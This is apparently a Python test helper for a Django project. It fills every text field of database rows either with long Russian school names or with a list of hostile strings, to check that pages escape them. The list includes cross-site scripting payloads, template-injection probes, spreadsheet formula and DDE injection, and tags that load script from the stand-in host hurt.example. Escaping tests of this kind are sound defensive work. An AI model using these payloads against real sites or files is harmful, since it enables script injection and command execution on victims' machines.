"""Texts for every text column of a world: long Russian ones as offices write them, and hostile ones (goal S7)."""

from typing import Any

from django.db import models
from tests.walls.canaries import may_hold_text, text_fields

# The page must show each as it is. `hurt` marks whatever of it came to life: a variable, an element, a request.
PAYLOADS = (
    "</title></textarea></script></style></option></select>--><i data-hurt>",
    "<script>window.hurt=1</script>",
    "<img src=x data-hurt onerror=window.hurt=1>",
    "\"><img src=/hurt data-hurt onerror='window.hurt=1'>",
    "'><svg data-hurt onload=window.hurt=1>",
    '" autofocus onfocus=window.hurt=1 data-hurt x="',
    "' onmouseover=window.hurt=1 data-hurt x='",
    "` data-hurt onclick=window.hurt=1 x=`",
    "<script src=https://hurt.example/x.js></script>",
    "<link rel=stylesheet href=https://hurt.example/x.css data-hurt>",
    "<iframe srcdoc='<b data-hurt>' data-hurt></iframe>",
    "<meta http-equiv=refresh content='0;url=/hurt'>",
    "<base href=https://hurt.example/>",
    "<form action=/hurt data-hurt><button>x",
    '<div x-data="{a:(window.hurt=1)}" data-hurt>',
    "<a href=javascript:window.hurt=1 data-hurt>x</a>",
    "javascript:window.hurt=1",
    "{{7*7}}{{7*7}} ${7*7}${7*7} {%now 'Y'%}",
    "\\u003cimg src=x onerror=window.hurt=1\\u003e</script>",
    "&lt;img src=x data-hurt onerror=window.hurt=1&gt;",
    "%3Cscript%3Ewindow.hurt=1%3C/script%3E",
    '=HYPERLINK("https://hurt.example/","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\u202e<b data-hurt hx-get=/hurt hx-trigger=load>\u2066",
)
HOSTILE_URL = "javascript:window.hurt=1//{number}"

_LONG = (
    "Муниципальное бюджетное общеобразовательное учреждение «Средняя общеобразовательная школа № 12 с углублённым "
    "изучением предметов естественно-математического цикла имени академика»"
)
_SHORT = "Профориентация и инженерные классы"


def plant_hostile(row: models.Model) -> None:
    """Fill every text of a row with as many payloads as fit, each row and column beginning with another one."""

    def text(field: models.Field, place: int) -> str:
        if isinstance(field, models.URLField):
            return HOSTILE_URL.format(number=row.pk)
        first = (row.pk + 5 * place) % len(PAYLOADS)
        found, room = str(row.pk), field.max_length or 4000
        for payload in (*PAYLOADS[first:], *PAYLOADS[:first]):
            if len(found) + len(payload) <= room:
                found = payload + found
        return found

    _plant(row, text)


def plant_readable(row: models.Model) -> None:
    """Fill every text of a row with words of an office, as long as real ones get."""

    def text(field: models.Field, place: int) -> str:
        if isinstance(field, models.URLField):
            return f"https://organisation{row.pk}.example.org/about"
        if isinstance(field, models.EmailField):
            return f"organisation{row.pk}@example.org"
        room = field.max_length or 4000
        return f"{_LONG if (room >= 200 and 'name' in field.name) or room > 1000 else _SHORT} {row.pk}"[-room:]

    _plant(row, text)


def _plant(row: models.Model, text: Any) -> None:
    values = {}
    for place, field in enumerate(text_fields(type(row))):
        if may_hold_text(field, row):
            value = text(field, place)
            values[field.name] = (
                _within(getattr(row, field.name), value) if isinstance(field, models.JSONField) else value
            )
    if values:
        type(row)._base_manager.filter(pk=row.pk).update(**values)


def _within(value: object, text: str) -> object:
    if isinstance(value, dict):
        return {key: _within(item, text) for key, item in value.items()}
    if isinstance(value, list):
        return [_within(item, text) for item in value]
    return text if isinstance(value, str) else value
